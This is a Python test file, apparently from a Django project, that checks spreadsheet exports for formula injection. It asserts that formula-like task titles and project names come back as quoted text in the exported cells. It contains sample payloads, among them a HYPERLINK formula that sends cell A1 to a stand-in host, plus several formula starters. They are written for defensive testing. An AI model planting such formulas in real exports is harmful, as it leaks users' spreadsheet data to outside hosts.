"""No exported workbook carries a formula: names that look like formulas come back as plain text."""

from __future__ import annotations

import io

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from newinfra.parsing.writers import FORMULA_START, append_row, write_xlsx
from newinfra.projects.tests.helpers import user

from .crawl import crawl

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")'
HOSTILE_TEXTS = [LEAK, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def _cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def test_the_cell_writer_keeps_formula_like_text_as_text(tmp_path):
    wb = Workbook()
    ws = wb.active
    append_row(ws, ["名称", "数值"])
    for text in HOSTILE_TEXTS:
        append_row(ws, [text, 1])
    path = tmp_path / "t.xlsx"
    wb.save(path)
    cells = {c.value: c for c in _cells(path.read_bytes()) if c.column == 1}
    for text in HOSTILE_TEXTS:
        assert cells[text].data_type == "s" and cells[text].quotePrefix, repr(text)
    assert all(s in FORMULA_START for s in "=+-@\t\r")


def test_the_parser_ledger_keeps_a_formula_like_task_title_as_text(tmp_path):
    plan = {
        "title": "测试方案",
        "tasks": [
            {
                "number": "1",
                "title": LEAK,
                "text": "=1+1",
                "section": "",
                "lead_units": ["@x"],
                "all_units": ["@x"],
            }
        ],
        "targets": [],
    }
    path = tmp_path / "ledger.xlsx"
    write_xlsx([plan], path)
    cells = list(_cells(path.read_bytes()))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert LEAK in [c.value for c in cells]


def test_every_export_carries_formula_like_names_as_text():
    from newinfra.plans.models import Task
    from newinfra.projects.models import DispatchReport, Project

    reports = DispatchReport.objects.select_related("project")[:3]
    assert reports
    for n, report in enumerate(reports):
        Project.objects.filter(pk=report.project_id).update(name=f"{HOSTILE_TEXTS[n]}项目")
        DispatchReport.objects.filter(pk=report.pk).update(milestone=HOSTILE_TEXTS[n + 1])
    Task.objects.filter(pk__in=Task.objects.order_by("pk").values("pk")[:3]).update(title=LEAK)
    from django.core.cache import cache

    from newinfra.projects.stats_cache import bump

    bump()  # .update() bypasses the signals that keep cached statistics in step
    cache.clear()
    client = Client(raise_request_exception=False)
    client.force_login(user("office"))
    exports: set[str] = {f"/projects/{report.project_id}/dispatch.xlsx" for report in reports}
    crawl(client, [], {}, exports)
    checked, seen_texts = [], set()
    for url in sorted(exports):
        r = client.get(url)
        assert r.status_code == 200, url
        if "spreadsheetml" not in r.get("Content-Type", ""):
            continue
        cells = list(_cells(r.content))
        formulas = [c.coordinate for c in cells if c.data_type == "f"]
        assert not formulas, f"{url}: formulas in {formulas[:5]}"
        for c in cells:
            if isinstance(c.value, str) and c.value.startswith(FORMULA_START):
                assert c.quotePrefix, f"{url} {c.coordinate} {c.value!r}"
                seen_texts.add(c.value)
        checked.append(url)
    assert len(checked) >= 5, checked
    assert any(t.startswith(LEAK) for t in seen_texts), sorted(seen_texts)[:10]
    assert "+SUM(1,2)" in seen_texts or "-2+3" in seen_texts  # a milestone, in the dispatch export
